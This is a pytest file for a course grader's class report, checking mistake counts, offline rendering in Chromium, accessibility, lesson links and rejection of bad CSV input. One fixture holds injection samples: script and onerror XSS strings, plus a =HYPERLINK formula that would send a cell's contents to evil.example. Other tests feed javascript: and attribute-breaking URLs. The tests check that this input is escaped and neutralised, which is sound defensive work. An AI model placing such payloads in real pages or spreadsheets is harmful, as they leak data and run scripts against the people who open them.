"""The class report (``make report``, and ``make grade``'s last step): what the class got wrong, what to re-teach.

- A seeded class (``tests/grader/report_class.py``: each learner's wrong answers
  drawn from the catalogued mistakes and from ``UNLISTED``, which no mistake
  explains): the page's and ``mistakes.csv``'s counts per exercise and per
  mistake equal the seeded ones exactly, the unlisted answers are the groups
  not yet named, and the CSV and the page agree.
- Its page in Chromium, from the disk with the network blocked: no request
  leaves ``report/``, every link to a lesson leads to a section of its
  notebook, every picture has a text alternative, axe-core finds no serious
  or critical violation, and it reads at 18 px in a 1280x720 window.
- A learner whose answer, note and id hold ``<script>``, ``<img onerror>``
  and ``=HYPERLINK(...)``: the page shows them as text and runs nothing, the
  CSV neutralises them.
- What a card says and where it links (relative, and into a hub's
  JupyterLab), identical answers, and every bad input named.
"""

import csv
import re
import shutil
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from encoder_lib.grading import EXERCISES
from encoder_lib.grading.exercises import BY_LESSON
from course_grader.class_report import build as build_report
from course_grader.class_report.examples import shown
from course_grader.class_report.similarity import canonical
from course_grader.class_report.cards import Links, _card_markdown, card, lab_links
from course_grader.class_report.counts import HARDEST, UNNAMED, Group
from course_grader.class_report.page import TOP_CARDS
from course_grader.class_report.rows import _unquoted, lesson_order, read_rows
from course_grader.files import FORMULA_STARTS, csv_field, write_csv
from course_grader.outputs import COLUMNS as OLDER_COLUMNS, GRADER_POINTS, LATE
from report_class import (COLUMNS, UNLISTED, add_lesson, copy_notebooks, hand_in, open_gradebook, seeded_class,
                          write_graded, write_rows)

ROOT = Path(__file__).resolve().parents[2]
LEARNERS = 60
STATUS_COLUMNS = {"passed": "passed", "failed": "failed", "not answered": "not answered", "timeout": "timeouts",
                  "tampered": "tampered"}


def soup(path):
    return BeautifulSoup(Path(path).read_text(), "html.parser")


def number(text):
    return int(text.split()[0])


def read_mistakes(root):
    with open(root / "report" / "mistakes.csv", newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    root = tmp_path_factory.mktemp("course")
    drawn = seeded_class(root, LEARNERS, seed=7, roster=True)
    build_report(root)
    return root, drawn


# ------------------------------------------------------------------ the seeded class


def counts_tables(page):
    """``{exercise: {column: count}}`` from the lessons' tables."""
    found = {}
    for table in page.select("section:has(> h2#lessons) table"):
        heads = [th.get_text(strip=True) for th in table.select("thead th")]
        if "handed in" not in heads:
            continue
        for row in table.select("tbody tr"):
            cells = [td.get_text(" ", strip=True) for td in row.select("td")]
            exercise = row.select_one("td code").get_text()
            found[exercise] = {head: number(cell) for head, cell in zip(heads[1:], cells[1:])}
    return found


def test_the_counts_per_exercise_are_the_seeded_ones(seeded):
    root, drawn = seeded
    tables = counts_tables(soup(root / "report" / "index.html"))
    assert set(tables) == set(EXERCISES)
    for exercise, statuses in drawn.statuses.items():
        shown = tables[exercise]
        assert shown["handed in"] == LEARNERS - statuses["missing"], exercise
        for status, column in STATUS_COLUMNS.items():
            assert shown[column] == statuses[status], (exercise, status)
        assert shown["errors"] == statuses["error"] + statuses["memory"], exercise


def cards_in(page, section):
    """``{(exercise, title): learners}`` of the cards in ``section`` (an id of the page's h2)."""
    found = {}
    for shown in page.select(f"section:has(> h2#{section}) .card"):
        title = shown.find(re.compile("h[34]"))
        exercise, name = title.get_text().split(": ", 1)
        found[exercise, name] = number(shown.select_one(".count").get_text())
    return found


def test_each_named_mistake_counts_the_learners_seeded_with_it(seeded):
    root, drawn = seeded
    assert drawn.named, "the seed draws catalogued mistakes"
    rows = {(r["exercise"], r["mistake"]): r for r in read_mistakes(root)}
    cards = cards_in(soup(root / "report" / "index.html"), "mistakes")
    for (exercise, mistake), students in drawn.named.items():
        assert int(rows[exercise, mistake]["learners"]) == len(students), (exercise, mistake)
        assert cards[exercise, mistake] == len(students), (exercise, mistake)
        assert rows[exercise, mistake]["example_student_id"] in students
        answered = drawn.answered(exercise)
        assert float(rows[exercise, mistake]["share"]) == pytest.approx(len(students) / answered, abs=1e-4)


def test_the_unlisted_answers_are_the_groups_not_yet_named(seeded):
    root, drawn = seeded
    assert {u.exercise for u in UNLISTED} == {exercise for exercise, _ in drawn.unnamed}, "the seed draws each"
    page = soup(root / "report" / "index.html")
    cards = cards_in(page, "unnamed")
    assert cards == {(exercise, f"not yet named ({signature})"): len(students)
                     for (exercise, signature), students in drawn.unnamed.items()}
    rows = {(r["exercise"], r["mistake"]): int(r["learners"]) for r in read_mistakes(root)}
    for (exercise, signature), students in drawn.unnamed.items():
        assert rows[exercise, UNNAMED + signature] == len(students)
    examples = page.select("section:has(> h2#unnamed) .card > pre")
    assert len(examples) == len(drawn.unnamed)
    assert all(example.get_text().strip() in {shown(u.source) for u in UNLISTED} for example in examples), \
        "one example answer each, without its comments and docstrings"


def test_the_csv_and_the_page_agree(seeded):
    root, _ = seeded
    page = soup(root / "report" / "index.html")
    named = cards_in(page, "mistakes")
    unnamed = cards_in(page, "unnamed")
    rows = read_mistakes(root)
    assert len(rows) == len(named) + len(unnamed)
    for row in rows:
        if row["mistake"].startswith(UNNAMED):
            title = f"not yet named ({row['mistake'][len(UNNAMED):]})"
            assert unnamed[row["exercise"], title] == int(row["learners"])
        else:
            assert named[row["exercise"], row["mistake"]] == int(row["learners"])
    learners = [int(r["learners"]) for r in rows]
    assert learners == sorted(learners, reverse=True), "largest first"


def test_the_top_cards_are_the_groups_that_cost_most_learners(seeded):
    root, _ = seeded
    page = soup(root / "report" / "index.html")
    top = [number(card.select_one(".count").get_text()) for card in page.select("section.card[id^=top-]")]
    most = sorted((int(r["learners"]) for r in read_mistakes(root)), reverse=True)[:TOP_CARDS]
    assert len(top) == TOP_CARDS and top[0] >= most[0], (top, most)  # a card of one idea counts its mistakes' learners
    assert sorted(top, reverse=True)[TOP_CARDS - 1] >= most[TOP_CARDS - 1], (top, most)


def test_the_hardest_exercises_have_the_lowest_pass_rates_among_those_who_answered(seeded):
    root, drawn = seeded
    page = soup(root / "report" / "index.html")
    listed = [row.select_one("code").get_text() for row in page.select("section:has(> h2#hardest) tbody tr")]
    rate = {e: drawn.statuses[e]["passed"] / drawn.answered(e) for e in drawn.statuses}
    assert len(listed) == HARDEST
    assert [rate[e] for e in listed] == sorted(rate.values())[:HARDEST]


def test_the_learners_who_may_need_help_are_those_who_passed_under_half(seeded):
    root, drawn = seeded
    page = soup(root / "report" / "index.html")
    listed = {row.select_one("td").get_text().split()[0] for row in page.select("section:has(> h2#help) tbody tr")}
    passed = {}
    for student, _lesson, _exercise, _points, _most, status, *_ in drawn.rows:
        passed.setdefault(student, []).append(status == "passed" or status == "tampered")
    assert listed == {s for s, ok in passed.items() if sum(ok) <= len(ok) / 2}
    assert "Ada Learner" in page.select_one("section:has(> h2#help) table").get_text(), "names from the roster"


def test_each_lesson_has_a_score_histogram_whose_alt_text_gives_its_numbers(seeded):
    root, drawn = seeded
    page = soup(root / "report" / "index.html")
    for lesson in dict.fromkeys(e.lesson for e in EXERCISES.values()):
        picture = page.select_one(f"h3#lesson-{lesson} + img")
        assert picture["src"].startswith("data:image/png;base64,")
        handed = {r[0] for r in drawn.rows if r[1] == lesson and r[5] != "missing"}
        assert f"of the {len(handed)} learners who handed it in" in picture["alt"]


def test_the_seeded_class_s_catalogued_mistakes_are_folded_as_common_never_flagged_as_copying(seeded):
    """Learners who make one catalogued mistake make it on their own: the copying section folds their shared
    answer below with why, and flags none of them (test_copying.py: the copied groups a class of 200 hides)."""
    root, drawn = seeded
    page = soup(root / "report" / "index.html")
    section = page.select_one("section:has(> h2#copying)")
    flagged = [{s.split(" (")[0] for s in flag.select_one("h3 .ids").get_text().split(", ")}
               for flag in section.select("section.flag")]
    shared = {key: learners for key, learners in drawn.named.items() if len(learners) >= 2}
    assert shared, "the seeded class has catalogued mistakes that several learners made"
    assert not any(len(learners & named) >= 2 for learners in flagged for named in shared.values()), flagged
    folded = {(row.select("td")[0].get_text(), row.select("td")[2].get_text())
              for row in section.select(":scope > details tbody tr")}
    for exercise, mistake in shared:  # its own row, or within the solution's when it is one edit from it
        assert {(exercise, f"the catalogued mistake {mistake}, which learners make on their own"),
                (exercise, "the course's own solution (public), or near it")} & folded, (exercise, mistake)


def test_make_report_writes_the_page_from_the_csv_alone_without_grading(tmp_path):
    seeded_class(tmp_path, 8, seed=3)
    shutil.rmtree(tmp_path / "autograded")  # no answers to read: still a page, and it says so
    for name in ("Makefile", "pyproject.toml"):
        shutil.copy(ROOT / name, tmp_path / name)
    (tmp_path / ".venv").symlink_to(Path(sys.executable).parent.parent)
    done = subprocess.run(["make", "-o", ".venv/.installed", "report", "LESSONS=01_attention,04_add_and_norm"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "report/index.html" in done.stdout
    page = soup(tmp_path / "report" / "index.html")
    assert [h.get_text() for h in page.select("h3[id^=lesson-]")] == ["01_attention", "04_add_and_norm"]
    assert {r["lesson"] for r in read_mistakes(tmp_path)} <= {"01_attention", "04_add_and_norm"}
    assert not (tmp_path / "autograded").exists() and not (tmp_path / "feedback").exists(), "nothing graded"


def test_make_report_without_a_grading_says_to_grade_first(tmp_path):
    done = subprocess.run([sys.executable, "-m", "course_grader.class_report", "--root", str(tmp_path)],
                          capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 2
    assert "grades_by_exercise.csv is missing: run `make grade` first" in done.stderr


# ------------------------------------------------------------------ what the gradebook adds


@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's models under SQLAlchemy 2
def test_late_hand_ins_and_marks_given_by_hand_in_formgrader_reach_the_page(tmp_path):
    import datetime

    copy_notebooks(tmp_path)
    rows = [(s, "01_attention", e, 0.0, 2.0, "failed", "it differs", "", "sums")
            for s in ("ada", "bob", "cy") for e in ("softmax", "scaled_dot_product_attention")]
    write_rows(tmp_path, rows)
    with open_gradebook(tmp_path) as book:
        add_lesson(book, "01_attention", due="2026-12-10 17:00:00 UTC")
        for student in ("ada", "bob", "cy"):
            book.update_or_create_student(student)
        hand_in(book, "01_attention", "ada", datetime.datetime(2026, 12, 10, 19, 5), penalty=0.0)  # 2 h 5 min late
        hand_in(book, "01_attention", "bob", datetime.datetime(2026, 12, 10, 16, 0))  # on time
        hand_in(book, "01_attention", "cy", None)  # copied in by hand: never late
        grade = book.find_grade("softmax_tests", "01_attention", "01_attention", "bob")
        grade.manual_score, grade.extra_credit = 1.5, 0.5  # as formgrader's handlers set them
        book.find_comment("softmax_answer", "01_attention", "01_attention", "bob").manual_comment = \
            "<b>close</b>: mind the axis"
        book.db.commit()
    build_report(tmp_path)
    page = soup(tmp_path / "report" / "index.html")
    late = [[td.get_text() for td in row.select("td")] for row in page.select("section:has(> h2#late) tbody tr")]
    assert late == [["01_attention", "ada", "2 h 5 min late", "0"]]
    marked = [[td.get_text() for td in row.select("td")] for row in page.select("section:has(> h2#by-hand) tbody tr")]
    assert marked == [["bob", "softmax", "0", "1.5", "0.5", "<b>close</b>: mind the axis"]]
    histogram = page.select_one("h3#lesson-01_attention + img")["alt"]
    assert "0 points: 2" in histogram and "2 points: 1" in histogram, "bob's 1.5 + 0.5 by hand counts"


@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's models under SQLAlchemy 2
def test_the_late_column_make_grade_writes_decides_what_is_late_not_the_gradebook_s_file_time(tmp_path):
    import datetime

    copy_notebooks(tmp_path)
    late = {"ada": 7500, "bob": "", "cy": ""}  # cy's notebook was copied in by hand: no exchange time, never late
    rows = [(s, "01_attention", e, 0.0, 2.0, "failed", "it differs", "", "sums", "", late[s])
            for s in late for e in ("softmax", "scaled_dot_product_attention")]
    write_csv(tmp_path / "grades_by_exercise.csv", COLUMNS + (GRADER_POINTS, LATE), rows)
    with open_gradebook(tmp_path) as book:
        add_lesson(book, "01_attention", due="2026-12-10 17:00:00 UTC")
        for student in late:
            book.update_or_create_student(student)
        hand_in(book, "01_attention", "ada", datetime.datetime(2026, 12, 10, 19, 5), penalty=4.0)
        hand_in(book, "01_attention", "bob", datetime.datetime(2026, 12, 10, 16, 0))
        hand_in(book, "01_attention", "cy", datetime.datetime(2026, 12, 20, 9, 0))  # the file's time, as recorded
    read, _ = read_rows(tmp_path / "grades_by_exercise.csv")
    assert [r.late for r in read] == [7500.0, 7500.0, 0.0, 0.0, 0.0, 0.0]
    build_report(tmp_path)
    page = soup(tmp_path / "report" / "index.html")
    listed = [[td.get_text() for td in row.select("td")] for row in page.select("section:has(> h2#late) tbody tr")]
    assert listed == [["01_attention", "ada", "2 h 5 min late", "4"]]


# ------------------------------------------------------------------ a learner's hostile text

HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A class of three: two honest learners and one whose answer, error message and id are hostile."""
    root = tmp_path_factory.mktemp("hostile")
    copy_notebooks(root)
    solution = __import__("json").loads((root / "notebooks/01_attention/01_attention.ipynb").read_text())
    answer = f"def softmax(x, axis=-1):\n    # {HOSTILE}\n    raise ValueError('{HOSTILE} {FORMULA}')\n"
    odd_id = FORMULA + HOSTILE
    write_graded(root, odd_id, "01_attention", solution, {"softmax": answer})  # the example: the only one read
    rows = []
    for student in ("alice", "bob", "mallory", odd_id):
        bad = student in ("mallory", odd_id)
        rows.append((student, "01_attention", "softmax", 0.0 if bad else 2.0, 2.0, "failed" if bad else "passed",
                     f"{FORMULA} it raised ValueError: {HOSTILE}" if bad else "", "", HOSTILE if bad else ""))
        rows.append((student, "01_attention", "scaled_dot_product_attention", 2.0, 2.0, "passed", "", "", ""))
    write_rows(root, rows)
    build_report(root)
    return root


def test_the_csv_neutralises_what_a_spreadsheet_would_read_as_a_formula(hostile):
    text = (hostile / "report" / "mistakes.csv").read_text()
    for row in csv.reader(text.splitlines()):
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
    assert "'=HYPERLINK" in text, "the id is kept, as text"


def test_the_page_shows_the_hostile_text_as_text_and_has_no_script_or_handler(hostile):
    page = soup(hostile / "report" / "index.html")
    assert not page.find_all("script")
    assert not [tag for tag in page.find_all(True) if any(a.startswith("on") for a in tag.attrs)]
    assert [img["src"][:22] for img in page.find_all("img")] == ["data:image/png;base64,"] * len(page.find_all("img"))
    text = page.get_text()
    assert HOSTILE in text and FORMULA in text, "shown as the learner wrote it"
    policy = page.select_one('meta[http-equiv="Content-Security-Policy"]')["content"]
    assert "default-src 'none'" in policy and "script-src" not in policy


def test_in_chromium_the_hostile_page_runs_nothing_and_shows_the_text(chromium, hostile):
    import site_pages

    with site_pages.offline(chromium) as context:
        dialogs = []
        context.on("page", lambda page: page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss())))
        page = site_pages.open_page(context, hostile / "report" / "index.html")
        assert page.evaluate("document.scripts.length") == 0
        assert HOSTILE in page.inner_text("body") and FORMULA in page.inner_text("body")
        page.wait_for_timeout(500)
        assert dialogs == [] and page.problems == []


# ------------------------------------------------------------------ the page in Chromium

_JS_SMALL_TEXT = """() => {
    const small = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
        const node = walker.currentNode;
        if (!node.textContent.trim()) continue;
        const element = node.parentElement;
        if (!element.getClientRects().length) continue;  // inside a closed disclosure
        const size = parseFloat(getComputedStyle(element).fontSize);
        if (size < 18) small.push(element.tagName + ' ' + size + ': ' + node.textContent.trim().slice(0, 40));
    }
    return small;
}"""


def heading_ids(notebook):
    """The ids JupyterLab gives the headings of a notebook's markdown cells."""
    import json

    ids = set()
    for cell in json.loads(Path(notebook).read_text())["cells"]:
        if cell["cell_type"] == "markdown":
            source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            ids |= {heading_anchor(m) for m in re.findall(r"^#{1,6}\s+(.+?)\s*$", source, re.M)}
    return ids


def test_in_chromium_offline_the_page_loads_nothing_from_outside_its_folder(chromium, seeded):
    import site_pages

    root, _ = seeded
    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
        page = site_pages.open_page(context, root / "report" / "index.html")
        inside = (root / "report").as_uri() + "/"
        assert [u for u in context.requests if not u.startswith(inside) and not u.startswith("data:")] == []
        assert page.problems == []


def _lesson_links(chromium, root):
    import site_pages

    with site_pages.offline(chromium) as context:
        page = site_pages.open_page(context, root / "report" / "index.html")
        links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
        ids = set(page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)"))
    inside = [link for link in links if link.partition("#")[0] == (root / "report" / "index.html").as_uri()]
    assert all(link.partition("#")[2] in ids for link in inside)
    return [link for link in links if link not in inside and not link.endswith("/report/mistakes.csv")]


def test_in_chromium_no_lesson_link_leads_to_a_notebook_s_raw_text(chromium, seeded):
    """Off a hub, without the website: each lesson opens in JupyterLab (its own address, started from the course
    folder), at a section the notebook has; never a file: address of an .ipynb, which a browser shows as JSON."""
    root, _ = seeded
    lessons = _lesson_links(chromium, root)
    assert lessons, "the cards link to their lessons"
    for link in lessons:
        address, _, anchor = link.partition("#")
        assert address.startswith("http://localhost:8888/lab/tree/notebooks/") and not link.startswith("file:"), link
        notebook = root / urllib.parse.unquote(address.split("/lab/tree/", 1)[1])
        assert notebook.is_file() and (not anchor or urllib.parse.unquote(anchor) in heading_ids(notebook)), link


def site_ids(notebook):
    """The ids the course's website gives a lesson's headings (tools/site's own slug)."""
    from tools.site.render import slug

    return {slug(heading.replace("-", " ")) for heading in heading_ids(notebook)}


def test_in_chromium_with_the_website_built_a_lesson_opens_at_its_page_s_section(chromium, tmp_path):
    seeded_class(tmp_path, 12, seed=5)
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "index.html").write_text("<!DOCTYPE html><title>the course</title>")
    build_report(tmp_path)
    lessons = _lesson_links(chromium, tmp_path)
    on_site = [link for link in lessons if "/site/" in link]
    assert on_site, "the cards link to the lessons' pages"
    for link in on_site:
        address, _, anchor = link.partition("#")
        lesson = address.rsplit("/", 1)[1].removesuffix(".html")
        assert address == (tmp_path / "site" / f"{lesson}.html").as_uri(), link
        assert anchor in site_ids(tmp_path / "notebooks" / lesson / f"{lesson}.ipynb"), link
    assert not [link for link in lessons if ".ipynb" in link.partition("#")[0] and link.startswith("file:")]


def test_in_chromium_the_four_answers_and_the_contents_are_in_the_first_screen(chromium, seeded):
    import site_pages

    root, _ = seeded
    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
        page = site_pages.open_page(context, root / "report" / "index.html")
        bottom = page.evaluate("""() => ['nav .contents', 'div.answers']
            .map(s => document.querySelector(s).getBoundingClientRect().bottom)""")
        contents = page.evaluate("[...document.querySelectorAll('nav .contents a')].map(a => a.hash)")
    assert max(bottom) <= 720, bottom
    assert "#copying" in contents and "#glance" in contents


def test_in_chromium_every_picture_is_drawn_and_has_a_text_alternative(chromium, seeded):
    import site_pages

    root, _ = seeded
    with site_pages.offline(chromium) as context:
        page = site_pages.open_page(context, root / "report" / "index.html")
        pictures = page.evaluate("[...document.images].map(i => ({alt: i.alt, drawn: i.complete && "
                                 "i.naturalWidth > 0}))")
    assert len(pictures) == len(BY_LESSON) + len(
        {(r["lesson"], r["exercise"]) for r in read_mistakes(root)})
    assert all(p["drawn"] and len(p["alt"]) > 40 for p in pictures), pictures


def test_the_table_at_the_top_gives_each_exercise_s_points_lost_by_the_class(seeded):
    root, drawn = seeded
    page = soup(root / "report" / "index.html")
    rows = page.select("section:has(> h2#glance) > details table tbody tr")
    assert len(rows) == len(EXERCISES)
    lost = {}
    for student, lesson, exercise, points, most, *_ in drawn.rows:
        lost[exercise] = lost.get(exercise, 0.0) + most - points
    shown_lost = {row.select_one("code").get_text(): float(row.select("td")[1].get_text()) for row in rows}
    assert shown_lost == lost
    assert list(shown_lost.values()) == sorted(shown_lost.values(), reverse=True), "most points lost first"


def test_in_chromium_the_page_reads_at_18_px_in_a_1280_by_720_window(chromium, seeded):
    import site_pages

    root, _ = seeded
    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
        page = site_pages.open_page(context, root / "report" / "index.html")
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert page.evaluate(_JS_SMALL_TEXT) == []
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, "no sideways scrolling"


#: Every word of the tables' headers and cells that the browser broke across lines (issue 42, item 3:
#: "faili|ng", "masked_softma|x" at 1280 px).
_JS_BROKEN_WORDS = """() => {
    const broken = [];
    for (const cell of document.querySelectorAll('th, td')) {
        if (!cell.getClientRects().length) continue;  // inside a closed disclosure
        const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
        while (walker.nextNode()) {
            const node = walker.currentNode;
            for (const match of node.textContent.matchAll(/\\S+/g)) {
                const range = document.createRange();
                range.setStart(node, match.index);
                range.setEnd(node, match.index + match[0].length);
                const lines = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
                if (lines.size > 1) broken.push(match[0]);
            }
        }
    }
    return broken;
}"""


def _words_broken(chromium, path):
    import site_pages

    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
        page = site_pages.open_page(context, path)
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, "no sideways scrolling"
        return page.evaluate(_JS_BROKEN_WORDS)


def test_in_chromium_no_table_breaks_a_word_at_1280_px(chromium, seeded, tmp_path):
    """The report's own tables, and its style sheet on the glance table of a class whose top mistake has a long
    title (a class of 200's: "faili|ng" and "masked_softma|x" broke there)."""
    from importlib.resources import files

    root, _ = seeded
    assert _words_broken(chromium, root / "report" / "index.html") == []
    style = files("course_grader.class_report").joinpath("style.css").read_text()
    title = "the mask is added after the softmax, so masked keys keep their weight and the rows no longer sum to one " * 3
    row = (f"<tr><td><code>masked_softmax</code></td><td class='n'>188</td><td class='n'>94</td><td class='n'>3</td>"
           f"<td class='n'>0</td><td><a href='#m'>{title}</a> (94)</td></tr>")
    (tmp_path / "glance.html").write_text(
        f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>t</title><style>{style}</style></head>"
        f"<body><main><table><thead><tr><th>exercise</th><th class='n'>points lost</th><th class='n'>failing</th>"
        f"<th class='n'>blank</th><th class='n'>missing</th><th>top mistake</th></tr></thead><tbody>{row * 3}"
        f"</tbody></table></main></body></html>")
    assert _words_broken(chromium, tmp_path / "glance.html") == []


def test_in_chromium_axe_core_finds_no_serious_or_critical_violation(chromium, seeded):
    import site_pages
    from axe_playwright_python.sync_playwright import Axe

    root, _ = seeded
    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
        page = site_pages.open_page(context, root / "report" / "index.html")
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        height = page.evaluate("document.documentElement.scrollHeight")
        page.set_viewport_size({"width": 1280, "height": min(height, 60_000)})  # axe checks colours on the screen
        results = Axe().run(page, options={"resultTypes": ["violations"]})
    serious = [(v["id"], v["help"], [n["target"] for n in v["nodes"]][:3]) for v in results.response["violations"]
               if v["impact"] in ("serious", "critical")]
    assert serious == []


# ------------------------------------------------------------------ cards and links


def group(exercise, key, named=True, students=("a",)):
    return Group(EXERCISES[exercise].lesson, exercise, key, named, list(students))


def test_a_card_of_a_mistake_with_its_own_hints_gives_its_own_idea():
    built = card(group("softmax", "softmax_without_max"), Links(site="../site/"))
    assert "inf / inf is NaN" in built.idea
    assert '<a href="../site/01_attention.html#the-softmax">' in built.idea, "the section on the course's website"
    assert "<a " not in card(group("softmax", "softmax_without_max"), Links()).idea, "nowhere to link: no link"
    assert built.sections == (("The-softmax", "The softmax"),)


def test_a_card_of_a_mistake_without_hints_or_not_yet_named_gives_its_exercise_s_idea():
    bare = next((e.name, m.name) for e in EXERCISES.values() for m in e.mistakes if not m.hints and e.hints)
    idea = card(group(*bare), Links()).idea
    assert idea == card(group(bare[0], "sums", named=False), Links()).idea
    render, _ = _card_markdown(Links(), EXERCISES[bare[0]].lesson)
    assert render(EXERCISES[bare[0]].hints[0]) == idea


def test_a_card_of_a_failure_not_yet_named_says_what_the_grader_measured_in_the_note_s_words():
    unnamed = group("softmax", "sums", named=False)
    unnamed.example_student = "ann"
    unnamed.example_note = ("batched scores (2, 3, 5), last axis: the values differ. What the checks measured: On the "
                            "check x, your weights should sum to 1 along axis -1; they sum to 0.139 to 0.199: is the "
                            "sum taken over every entry? The same holds on 3 other failing checks.")
    explanation = card(unnamed, Links()).explanation
    assert explanation == ("no catalogued mistake explains it; what the grader measured on ann's answer: On the check "
                           "x, your weights should sum to 1 along axis -1; they sum to 0.139 to 0.199: is the sum "
                           "taken over every entry?")
    unnamed.example_note = "x: it raised ValueError"
    assert card(unnamed, Links()).explanation.endswith("the grader measured: sums")


def test_a_card_of_a_mistake_the_catalogue_no_longer_has_still_has_its_exercise_s_idea():
    built = card(group("softmax", "renamed_since"), Links())
    assert "no longer names" in built.explanation and "The softmax" in built.idea


def test_on_a_hub_a_lesson_opens_in_the_teacher_s_jupyterlab(tmp_path):
    home = tmp_path / "home"
    links = lab_links(home / "encoder-course", environ={"JUPYTERHUB_SERVICE_PREFIX": "/user/teach/",
                                                                     "JUPYTER_SERVER_ROOT": str(home)})
    assert links.in_lab("01_attention", "The-softmax") == \
        "/user/teach/lab/tree/encoder-course/notebooks/01_attention/01_attention.ipynb#The-softmax"
    assert lab_links(tmp_path, environ={}).in_lab("01_attention") == \
        "http://localhost:8888/lab/tree/notebooks/01_attention/01_attention.ipynb", \
        "off a hub: JupyterLab's own address, started from the course folder"
    outside = lab_links(tmp_path / "elsewhere", "https://hub.example.org/user/t/", home, environ={})
    assert outside.in_lab("01_attention") is None, "a course outside JupyterLab's folder has no address in it"
    given = lab_links(home / "c", "https://hub.example.org/user/t/", home, environ={})
    assert given.in_lab("01_attention") == "https://hub.example.org/user/t/lab/tree/c/notebooks/01_attention/" \
                                           "01_attention.ipynb"


@pytest.mark.parametrize("url", ["javascript:alert(1)", 'https://hub.example.org/"onmouseover=x', "hub.example.org",
                                 "https://hub.example.org/user/ t/"])
def test_a_lab_url_that_is_not_an_address_is_refused_and_named(url):
    with pytest.raises(ValueError, match="lab_url must be JupyterLab's address"):
        lab_links(".", url)


def heading_anchor(text):
    """The id JupyterLab gives a markdown heading: its text with spaces as hyphens."""
    return re.sub(r"[`*_]", "", text).strip().replace(" ", "-")


def test_the_heading_anchor_is_jupyterlab_s():
    assert heading_anchor("Layer norm on the lesson's input") == "Layer-norm-on-the-lesson's-input"
    assert heading_anchor("`softmax(x, axis=-1)`") == "softmax(x,-axis=-1)"


# ------------------------------------------------------------------ bad input, named


def write_csv_text(path, text):
    path.write_text(text)
    return path


@pytest.mark.parametrize("text, words", [
    ("a,b\n1,2\n", "is not a grades_by_exercise.csv: its first line must name the columns"),
    (",".join(COLUMNS) + "\nann,01_attention,softmax,2,2,pased,,,\n", "line 2: status must be one of"),
    (",".join(COLUMNS) + "\nann,01_attention,softmax,two,2,passed,,,\n", "line 2: points must be a number"),
    (",".join(COLUMNS) + "\nann,01_attention,softmax,2,2,passed,,,\nann,01_attention,softmax,2,2,passed,,,\n",
     "line 3 repeats the row of line 2"),
    (",".join(COLUMNS) + "\nann,01_attention\n", "line 2 has 2 fields, not the 9 of its header"),
])
def test_a_csv_that_is_not_what_make_grade_writes_is_refused_with_its_line(tmp_path, text, words):
    with pytest.raises(ValueError, match=re.escape(words)):
        read_rows(write_csv_text(tmp_path / "grades_by_exercise.csv", text))


def test_a_csv_of_an_older_make_grade_is_read_and_the_page_says_to_grade_again(tmp_path):
    copy_notebooks(tmp_path)
    write_csv_text(tmp_path / "grades_by_exercise.csv", ",".join(OLDER_COLUMNS) + "\n"
                   "ann,01_attention,softmax,0,2,failed,it differs\n")
    rows, has_mistakes = read_rows(tmp_path / "grades_by_exercise.csv")
    assert not has_mistakes and rows[0].mistakes == () and rows[0].diagnosis == ""
    build_report(tmp_path)
    assert "make grade FORCE=1" in (tmp_path / "report" / "index.html").read_text()


def test_a_field_written_neutralised_reads_back_as_it_was():
    for text in ("=1+1", "-3", "@me", "plain", "'quoted"):
        assert _unquoted(csv_field(text)) == text


def test_lessons_that_are_not_the_course_s_are_refused_and_named(tmp_path):
    with pytest.raises(ValueError, match=r"lessons must name lessons of the course .*'09_nope'"):
        lesson_order([], ["01_attention", "09_nope"])


def test_a_root_that_is_not_a_folder_is_refused_and_named(tmp_path):
    with pytest.raises(ValueError, match="root must be the course folder"):
        build_report(tmp_path / "nowhere")


# ---------------------------------------------------------------- issue 30: bounded inputs, examples no one chooses


def test_an_answer_over_the_report_s_bounds_is_compared_with_nothing_and_said(tmp_path):
    """An 8.6 MB answer cell once cost every report 36 s and 4.6 GB: over MAX_ANSWER_CHARS (or nodes, or time),
    an answer is not parsed, it is OVER_BOUND, compared with nothing, and the page lists it."""
    import time

    from course_grader.class_report import answers

    copy_notebooks(tmp_path)
    solution = __import__("json").loads((tmp_path / "notebooks/01_attention/01_attention.ipynb").read_text())
    huge = "def softmax(x, axis=-1):\n" + "    x = x + 0\n" * 700_000 + "    return x\n"  # 8.4 MB
    deep = "def softmax(x, axis=-1):\n    return " + "(" * 90 + "x" + ")" * 90 + "\n"
    many = "def softmax(x, axis=-1):\n" + "    x = [x, x, x, x, x, x]\n" * 600 + "    return x\n"  # 18 KB
    rows = []
    for student, answer in (("huge", huge), ("many", many), ("deep", deep)):
        write_graded(tmp_path, student, "01_attention", solution, {"softmax": answer})
        rows.append((student, "01_attention", "softmax", 0.0, 2.0, "failed", "wrong", "", "x"))
    write_rows(tmp_path, rows)
    started = time.process_time()
    build_report(tmp_path)
